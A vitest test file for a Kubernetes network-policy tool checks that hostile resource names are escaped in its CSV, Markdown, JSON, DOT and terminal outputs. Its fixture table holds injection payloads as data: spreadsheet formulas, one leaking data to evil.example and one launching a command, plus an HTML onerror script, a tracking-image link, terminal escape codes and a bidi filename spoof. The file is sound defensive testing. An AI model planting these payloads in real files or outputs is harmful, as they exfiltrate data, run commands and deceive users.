/**
 * Names are data, never control (issue 12): hostile names taken through a
 * workspace YAML into every output the project writes (the app's CSV and
 * Markdown exports; `connlist` in txt, csv, md, json and dot; `lint` and
 * `explain` in text and JSON) come out with no raw control, bidi or invisible
 * character, no CSV cell a spreadsheet would evaluate, no raw HTML in
 * Markdown, and in a shape each format's reader still accepts.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { analyzeConnectivity } from '../../src/model/analysis/connectivity.ts';
import { connlistEntries } from '../../src/model/analysis/connlist.ts';
import { connectivityCsv, connectivityMarkdown } from '../../src/model/io/index.ts';
import { loadWorkspace } from '../../src/model/manifests/workspace.ts';
import { cli } from './capture.ts';

/** Each is used as a namespace and as a name, so it also starts a CSV cell (`ns/name[Kind]`). */
const HOSTILE: Record<string, string> = {
  'formula =HYPERLINK': '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  'formula @SUM|cmd': '@SUM(1+1)*cmd|"/C calc"!A0',
  'formula +': '+1+1',
  'formula -': '-2+3',
  'formula tab': '\tcmd',
  'formula CR': '\rcmd',
  'html img': '<img src=x onerror=alert(1)>',
  'markdown image': '![x](http://evil.example/pixel.png)',
  'terminal title and clear': '\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mRED',
  'bidi override': 'invoice\u202efdp.exe',
  'bidi isolate': 'a\u2066b\u2069c',
  'NUL ESC BEL DEL C1 CSI': 'nul\0esc\x1bbel\x07del\x7fcsi\x9bend',
  'zero width and BOM': 'web\u200b\ufeff',
  'line separator': 'one\u2028two',
  'tag character': 'tag\u{e0041}',
  newline: 'multi\nline',
};
const NAMES = Object.values(HOSTILE);

/** A YAML double-quoted scalar with every character outside printable ASCII as an escape. */
function yamlString(s: string): string {
  let out = '"';
  for (const ch of s) {
    const code = ch.codePointAt(0)!;
    if (code >= 0x20 && code <= 0x7e && ch !== '"' && ch !== '\\') out += ch;
    else if (code > 0xffff) out += `\\U${code.toString(16).padStart(8, '0')}`;
    else out += `\\u${code.toString(16).padStart(4, '0')}`;
  }
  return `${out}"`;
}

/** Per hostile name: a Deployment and an allow-all NetworkPolicy, both `<name>` in namespace `<name>`. */
function hostileWorkspace(): string {
  return NAMES.map((n, i) => {
    const q = yamlString(n);
    return `apiVersion: apps/v1
kind: Deployment
metadata: {name: ${q}, namespace: ${q}}
spec:
  selector: {matchLabels: {app: a${i}}}
  template:
    metadata: {labels: {app: a${i}}}
    spec: {containers: [{name: c, image: x, ports: [{containerPort: 80}]}]}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: ${q}, namespace: ${q}}
spec:
  podSelector: {}
  ingress: [{}]
`;
  }).join('---\n');
}

const tmp = mkdtempSync(join(tmpdir(), 'netpol-hostile-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const FILE = join(tmp, 'hostile.yaml');
const WORKSPACE = hostileWorkspace();
writeFileSync(FILE, WORKSPACE);
const LONG_FILE = join(tmp, 'long.yaml');
writeFileSync(
  LONG_FILE,
  `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: ${'x'.repeat(10_000)}, namespace: shop}\nspec: {podSelector: {}}\n`,
);

/**
 * What must never reach a terminal, a spreadsheet or a renderer raw: C0 (but LF), DEL, C1, the
 * bidi controls, zero-width and BOM, line/paragraph separators, tag characters. Written here
 * independently of the code under test.
 */
// eslint-disable-next-line no-control-regex
const RAW_UNSAFE = /[\0-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

/** RFC 4180 cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string, lineEnd: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unclosed quote');
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') break;
        else cell += text[i++];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',' && !text.startsWith(lineEnd, i)) {
        if (text[i] === '"') throw new Error(`quote inside an unquoted cell at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith(lineEnd, i)) {
      rows.push(row);
      row = [];
      i += lineEnd.length;
    } else if (i < text.length) throw new Error(`unexpected character after a cell at ${i}`);
  }
  return rows;
}

/** Markdown table rows split at unescaped pipes (a pipe after an odd number of backslashes is text). */
function markdownCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  for (let i = 0; i < line.length; i++) {
    if (line[i] === '\\') {
      cell += line[i] + (line[i + 1] ?? '');
      i++;
    } else if (line[i] === '|') {
      cells.push(cell);
      cell = '';
    } else cell += line[i];
  }
  cells.push(cell);
  return cells.slice(1, -1);
}

function expectCsvSafe(text: string, lineEnd: string, allowedInCells: RegExp): void {
  const rows = parseCsv(text, lineEnd);
  expect(rows.length).toBeGreaterThan(NAMES.length);
  for (const row of rows) {
    expect(row).toHaveLength(3);
    for (const cell of row) {
      expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_TRIGGER);
      expect(RAW_UNSAFE.test(cell.replace(allowedInCells, '')), JSON.stringify(cell)).toBe(false);
    }
  }
}

function expectMarkdownSafe(text: string): void {
  expect(RAW_UNSAFE.test(text)).toBe(false);
  expect(text).not.toMatch(/<img/i);
  expect(text).not.toMatch(/<(?!br>)/); // the only tag is the <br> a line break becomes
  expect(text).not.toMatch(/\]\(/); // no link or image: `](` never forms
  const lines = text.trimEnd().split('\n');
  expect(lines.length).toBeGreaterThan(NAMES.length + 2);
  for (const line of lines) expect(markdownCells(line), line).toHaveLength(3);
}

/** One DOT statement per line: a node or an edge, every string quoted with its quotes escaped. */
const DOT_STRING = String.raw`"(?:[^"\\\n]|\\.)*"`;
const DOT_LINE = new RegExp(`^\\t${DOT_STRING}(?: -> ${DOT_STRING})? \\[label=${DOT_STRING}(?: shape=box)?\\]$`);

const entries = connlistEntries(analyzeConnectivity(loadWorkspace([{ name: 'hostile.yaml', text: WORKSPACE }])));
const ids = NAMES.map((n) => `${n}/${n}[Deployment]`);

describe('hostile names in every output format', () => {
  it('the workspace reads every hostile name as a workload (the inputs below really hold them)', () => {
    const listed = new Set(entries.map((e) => e.src));
    for (const id of ids) expect(listed.has(id), JSON.stringify(id)).toBe(true);
  });

  it('app CSV: no formula, no raw control character (tab, CR, LF stay as quoted cell data)', () => {
    expectCsvSafe(connectivityCsv(entries), '\r\n', /[\t\r\n]/g);
  });

  it('app Markdown: no raw HTML, link or control character; three cells per row', () => {
    expectMarkdownSafe(connectivityMarkdown(entries));
  });

  it.each(['txt', 'csv', 'md', 'json', 'dot'])('connlist -o %s: nothing raw reaches the terminal', async (format) => {
    const r = await cli('connlist', '-o', format, FILE);
    expect(r.code, r.stderr).toBe(0);
    expect(RAW_UNSAFE.test(r.stdout.replace(/^\t/gm, '')), format).toBe(false); // dot indents with a tab
    expect(RAW_UNSAFE.test(r.stderr)).toBe(false);
    const lines = r.stdout.trimEnd().split('\n');
    switch (format) {
      case 'txt':
        // One line per pair: a name's line break is not a new line.
        expect(lines).toHaveLength(entries.length);
        for (const line of lines) expect(line).toMatch(/^.+ => .+ : .+$/);
        break;
      case 'csv':
        expectCsvSafe(r.stdout, '\n', /$^/);
        break;
      case 'md':
        expectMarkdownSafe(r.stdout);
        break;
      case 'json':
        // Lossless: JSON's \u escapes read back as the very names.
        expect(JSON.parse(r.stdout)).toEqual(entries);
        break;
      case 'dot':
        expect(lines[0]).toBe('digraph {');
        expect(lines.at(-1)).toBe('}');
        for (const line of lines.slice(1, -1)) expect(line).toMatch(DOT_LINE);
        break;
    }
  });

  it.each(['text', 'json'])('lint -o %s: findings name the hostile policies, escaped', async (format) => {
    const r = await cli('lint', '-o', format, FILE);
    expect(r.code).toBe(1); // the names are invalid: errors
    expect(RAW_UNSAFE.test(r.stdout)).toBe(false);
    expect(RAW_UNSAFE.test(r.stderr)).toBe(false);
    if (format === 'json') {
      const messages = (JSON.parse(r.stdout) as { message: string }[]).map((d) => d.message).join('\n');
      expect(messages).toContain('invoice\\u202efdp.exe'); // visible, not reversing the line
    } else {
      expect(r.stdout.trimEnd().split('\n').length).toBeGreaterThanOrEqual(NAMES.length);
      expect(r.stdout).toContain('\\u001b]0;PWNED-TITLE\\u0007\\u001b[2J');
    }
  });

  it('lint: a 10,000-character name is cut with a count of the rest', async () => {
    const r = await cli('lint', LONG_FILE);
    const line = r.stdout.split('\n').find((l) => l.includes('metadata.name'))!;
    expect(line).toContain(`"${'x'.repeat(60)}"… (9,940 more characters)`);
    expect(line.length).toBeLessThan(400);
  });

  it.each(Object.entries(HOSTILE))('explain from %s: text and JSON escaped', async (_label, name) => {
    const from = `${name}/${name}[Deployment]`;
    const to = ids.find((id) => id !== from)!;
    for (const format of ['text', 'json']) {
      const r = await cli('explain', '--from', from, '--to', to, '--port', '80', '-o', format, FILE);
      expect(RAW_UNSAFE.test(r.stdout), r.stdout).toBe(false);
      expect(RAW_UNSAFE.test(r.stderr), r.stderr).toBe(false);
      // Ids are trimmed as typed, so a name that starts with white space is not found: an error line.
      if (/^\s/.test(name)) expect(r.stderr).toMatch(/^netpol-studio: No workload .*\n$/);
      else {
        expect(r.code, r.stderr).toBe(0);
        if (format === 'json') expect(JSON.parse(r.stdout)).toMatchObject({ from, to });
        else expect(r.stdout.split('\n')[0]).toMatch(/allowed/);
      }
    }
  });
});
